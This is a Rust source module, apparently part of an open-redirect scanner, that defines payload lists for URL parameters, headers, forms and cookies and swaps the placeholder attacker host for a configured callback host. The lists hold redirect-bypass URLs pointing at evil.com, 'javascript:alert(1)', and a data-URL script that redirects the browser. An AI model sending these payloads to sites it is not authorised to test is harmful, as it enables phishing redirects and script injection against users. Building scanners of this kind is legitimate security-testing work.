use crate::redirect::host::normalize;

/// Attacker domain used by the built-in payloads.
pub const BUILTIN_ATTACKER_HOST: &str = "evil.com";

const URL_PAYLOADS: &[&str] = &[
    "http://evil.com",
    "//evil.com",
    "https://evil.com",
    "javascript:alert(1)",
    "///evil.com",
    "////evil.com",
    "https:evil.com",
    "//evil.com/%2f..",
    "https://evil.com/%2f..",
    "http://evil.com/",
    "https://evil.com?",
    "https://evil.com#",
    "//evil.com/%2e%2e",
    "/\\evil.com",
    "\\/\\/evil.com",
    "/%09/evil.com",
    "data:text/html,<script>location='http://evil.com'</script>",
];

const HEADER_PAYLOADS: &[&str] = &[
    "http://evil.com",
    "https://evil.com",
    "//evil.com",
    "evil.com",
    "http://evil.com/",
    "https://evil.com/%2f..",
];

const PROBE_PAYLOADS: &[&str] = &["http://evil.com", "//evil.com", "javascript:alert(1)"];

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum VectorKind {
    UrlParameter,
    Header,
    Form,
    Cookie,
}

impl VectorKind {
    /// Number of payloads kept in fast mode.
    pub fn fast_prefix(&self) -> usize {
        match self {
            VectorKind::UrlParameter | VectorKind::Header => 3,
            VectorKind::Form | VectorKind::Cookie => 2,
        }
    }
}

#[derive(Clone, Debug, PartialEq, Eq)]
pub struct PayloadSet {
    url: Vec<String>,
    header: Vec<String>,
    probe: Vec<String>,
}

impl PayloadSet {
    /// Built-in lists, with `custom` replacing the URL-parameter list when
    /// given. The attacker domain of built-in payloads becomes the callback
    /// host when one is configured.
    pub fn new(custom: Option<Vec<String>>, callback_host: Option<&str>) -> Self {
        let attacker = callback_host
            .and_then(normalize)
            .map(|h| h.as_str().to_string());
        let builtin = |list: &[&str]| -> Vec<String> {
            list.iter()
                .map(|p| match attacker.as_deref() {
                    Some(host) => p.replace(BUILTIN_ATTACKER_HOST, host),
                    None => p.to_string(),
                })
                .collect()
        };

        let url = match custom {
            Some(list) => list
                .into_iter()
                .map(|p| p.trim().to_string())
                .filter(|p| !p.is_empty())
                .collect(),
            None => builtin(URL_PAYLOADS),
        };
        Self {
            url,
            header: builtin(HEADER_PAYLOADS),
            probe: builtin(PROBE_PAYLOADS),
        }
    }

    pub fn builtin() -> Self {
        Self::new(None, None)
    }

    pub fn for_vector(&self, kind: VectorKind, fast: bool) -> &[String] {
        let list = match kind {
            VectorKind::UrlParameter => &self.url,
            VectorKind::Header => &self.header,
            VectorKind::Form | VectorKind::Cookie => &self.probe,
        };
        if fast {
            &list[..list.len().min(kind.fast_prefix())]
        } else {
            list
        }
    }
}

impl Default for PayloadSet {
    fn default() -> Self {
        Self::builtin()
    }
}
